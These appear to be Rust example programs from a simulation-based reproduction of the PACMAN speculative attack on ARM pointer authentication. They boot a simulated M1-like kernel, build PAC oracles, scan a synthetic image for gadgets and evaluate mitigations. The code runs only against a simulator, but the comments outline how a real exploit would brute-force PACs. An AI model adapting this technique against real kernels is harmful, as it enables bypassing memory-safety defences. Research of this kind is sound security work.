    let (correct, incorrect) = run(&mut sys, &mut data, target, true_pac, trials);
    histogram("correct PAC", &correct);
    histogram("incorrect PAC", &incorrect);
    reliability(&correct, &incorrect);

    println!("\n=== Figure 8(b): instruction PACMAN gadget ===");
    let mut instr = InstrPacOracle::new(&mut sys).expect("oracle");
    let (correct, incorrect) = run(&mut sys, &mut instr, target, true_pac, trials);
    histogram("correct PAC", &correct);
    histogram("incorrect PAC", &incorrect);
    reliability(&correct, &incorrect);

    println!("\nkernel crashes across all trials: {}", sys.kernel.crash_count());
}
