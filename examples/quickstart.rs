//! Quickstart: boot the simulated platform and run the PACMAN PAC oracle.
//!
//! ```text
//! cargo run --release --example quickstart
//! ```
//!
//! Boots the M1-like machine with the XNU-like kernel and the paper's
//! Listing-1 kext, then uses the §8.1 data-gadget oracle to classify a
//! handful of PAC guesses for an attacker-chosen kernel pointer — without
//! a single kernel crash.

use pacman::prelude::*;

fn main() {
    // 1. Boot: machine + kernel + PoC kexts. Per-boot random PA keys.
    let mut sys = System::boot(SystemConfig::default());
    println!("booted: {} kernel crashes so far", sys.kernel.crash_count());

    // 2. Choose a target pointer. In a real exploit this is an address the
    //    attacker wants the kernel to jump to (e.g. a JOP gadget); here it
    //    is a fresh kernel page in a dTLB set the syscall path leaves
    //    quiet.
    let set = sys.pick_quiet_dtlb_set();
    let target = sys.alloc_target(set);
    println!("target pointer: {target:#x} (dTLB set {set})");

    // Ground truth — evaluation only; the attacker never sees this.
    let true_pac = sys.true_pac(target);

    // 3. Build the data-gadget PAC oracle (Figure 3(a) / Figure 8(a)).
    let mut oracle = DataPacOracle::new(&mut sys).expect("oracle setup");

    // 4. Classify guesses. Each test trains the victim branch, primes the
    //    monitored dTLB set, triggers the gadget speculatively and probes.
    println!("\n guess    | probe misses | verdict");
    println!("----------+--------------+--------");
    for guess in [true_pac, true_pac ^ 0x0001, true_pac ^ 0x0100, true_pac ^ 0x8000] {
        let verdict = oracle.test_pac(&mut sys, target, guess).expect("oracle trial");
        println!(
            " {guess:#06x}  | {:>12} | {}",
            verdict.median_misses,
            if verdict.is_correct() { "CORRECT PAC" } else { "wrong" }
        );
    }

    // 5. The point of the whole paper:
    println!("\nkernel crashes caused: {}", sys.kernel.crash_count());
    assert_eq!(sys.kernel.crash_count(), 0);
    println!("PAC verification results were leaked speculatively — no crashes.");
}
