//! Disassemble a synthetic PA-enabled image with gadget annotations.
//!
//! ```text
//! cargo run --release --example disassemble [functions]
//! ```
//!
//! Generates a small synthetic kernel image, disassembles it with the
//! workspace's decoder, and annotates each line the §4.3 scanner flags as
//! part of a PACMAN gadget — what the paper's Ghidra screenshots look
//! like, as text.

use pacman::gadget::{scan_image, synthesize, GadgetKind, ImageSpec, ScanConfig};
use pacman::isa::decode;
use std::collections::HashMap;

fn main() {
    let functions: usize = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(3);
    let image = synthesize(&ImageSpec { functions, seed: 0xD15A, ..ImageSpec::default() });
    let report = scan_image(&image.bytes, &ScanConfig::default());

    // Index annotations by instruction position.
    let mut notes: HashMap<usize, Vec<String>> = HashMap::new();
    for (n, g) in report.gadgets.iter().enumerate() {
        let kind = match g.kind {
            GadgetKind::Data => "data",
            GadgetKind::Instruction => "instr",
        };
        notes.entry(g.branch_index).or_default().push(format!("BR1 of {kind} gadget #{n}"));
        notes.entry(g.aut_index).or_default().push(format!("verify of gadget #{n}"));
        notes.entry(g.transmit_index).or_default().push(format!("transmit of gadget #{n}"));
    }

    println!(
        "; synthetic image: {} instructions, {} PACMAN gadgets found\n",
        image.instructions,
        report.total()
    );
    for (i, word) in image.bytes.chunks_exact(4).enumerate() {
        let w = u32::from_le_bytes(word.try_into().expect("4-byte chunk"));
        let text = match decode(w) {
            Ok(inst) => inst.to_string(),
            Err(_) => format!(".word {w:#010x}"),
        };
        match notes.get(&i) {
            Some(ann) => println!("{:6}:  {:<28} ; <-- {}", i, text, ann.join("; ")),
            None => println!("{i:6}:  {text}"),
        }
    }
    println!(
        "\n{} data gadgets, {} instruction gadgets, mean distance {:.1}",
        report.data_count(),
        report.instruction_count(),
        report.mean_distance()
    );
}
