//! PacmanOS (§6.2): bare-metal experiments with full machine control.
//!
//! ```text
//! cargo run --release --example pacmanos
//! ```
//!
//! Boots the bare-metal environment (EL1, no kernel, no noise) and runs
//! the three built-in experiments: the MSR inventory, the timer
//! resolution measurement, and the automated TLB-parameter search that
//! rediscovers the Figure 6 organisation with no prior knowledge.

use pacman::os::experiments::{MsrInventory, TimerResolution, TlbParameterSearch};
use pacman::os::{BareMetal, Runner};

fn main() {
    let mut runner = Runner::new(BareMetal::boot_default());

    let mut msr = MsrInventory::new();
    print!("{}", runner.run(&mut msr));

    let mut timers = TimerResolution::new();
    print!("{}", runner.run(&mut timers));

    let mut tlb = TlbParameterSearch::new();
    let report = runner.run(&mut tlb);
    print!("{report}");
    assert!(report.ok, "the search must rediscover Figure 6");
    println!("\nPacmanOS rediscovered the Figure 6 TLB hierarchy with no priors.");
}
