//! §9 reproduction: the countermeasure matrix.
//!
//! ```text
//! cargo run --release --example mitigation_matrix
//! ```
//!
//! Evaluates every §9 defence direction against the real attack code and
//! prints which oracles survive plus the benign-workload cost, then runs
//! the §4.2 eager-squash ablation.

use pacman::attack::report::Table;
use pacman::mitigations::{evaluate_all, evaluate_with_squash};
use pacman::uarch::{Mitigation, SquashPolicy};

fn main() {
    let evaluations = evaluate_all();
    let baseline = evaluations
        .iter()
        .find(|e| e.report.mitigation == Mitigation::None)
        .expect("baseline present")
        .benign_cycles as f64;

    let mut table = Table::new(
        "Section 9: mitigations vs the PACMAN oracles",
        &["mitigation", "data oracle", "instr oracle", "surface", "benign overhead"],
    );
    for e in &evaluations {
        let overhead = 100.0 * (e.benign_cycles as f64 - baseline) / baseline;
        table.row(&[
            format!("{:?}", e.report.mitigation),
            if e.report.data_oracle_works { "works" } else { "blind" }.into(),
            if e.report.instr_oracle_works { "works" } else { "blind" }.into(),
            format!("{:?}", e.surface),
            format!("{overhead:+.1}%"),
        ]);
    }
    println!("{table}");

    println!("ablation: nested-branch squash policy (paper section 4.2)\n");
    for squash in [SquashPolicy::Eager, SquashPolicy::Lazy] {
        let e = evaluate_with_squash(Mitigation::None, squash);
        println!(
            "  {:?}: data oracle {}, instruction oracle {} => {:?}",
            squash,
            if e.report.data_oracle_works { "works" } else { "blind" },
            if e.report.instr_oracle_works { "works" } else { "blind" },
            e.surface
        );
    }
    println!("\nthe instruction PACMAN gadget requires eager squash of nested branches.");
}
